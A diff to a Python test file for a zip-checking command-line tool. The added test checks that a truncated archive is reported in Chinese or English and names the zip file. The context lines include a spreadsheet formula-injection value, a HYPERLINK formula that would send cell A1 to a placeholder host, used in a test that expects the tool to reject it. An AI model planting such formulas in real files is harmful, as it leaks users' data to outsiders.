@@ -641,6 +641,20 @@ def test_20_all_encrypted_zip_says_so(tmp_path):
     assert "encrypted" in refused(cli("check", z, *CHEAP, "--lang", "en"), "d.zip")
 
 
+def test_20_a_zip_cut_short_is_said_in_the_users_words(tmp_path):
+    """zipfile's own 'File is not a zip file' is English; a batch row names the zip, not 张三.zip/."""
+    z = zip_of(demo(tmp_path), tmp_path / "d.zip")
+    z.write_bytes(z.read_bytes()[:-300])
+    line = refused(cli("check", z, *CHEAP), "d.zip")
+    assert "不是完整的 zip 文件" in line and "File is not" not in line
+    assert "not a whole zip file" in refused(cli("check", z, *CHEAP, "--lang", "en"), "d.zip")
+    root = tmp_path / "root"
+    root.mkdir()
+    (root / "孙七.zip").write_bytes(z.read_bytes())
+    rows = json.loads(cli("batch", root, "-f", "json", "--today", TODAY).stdout)
+    assert rows[0]["error"].startswith("无法打开压缩包 孙七.zip（"), rows[0]["error"]
+
+
 def test_21_formula_in_name_is_a_profile_error(tmp_path):
     d = demo(tmp_path)
     formula = '=HYPERLINK("http://x.invalid/?"&A1,"王晓梅")'
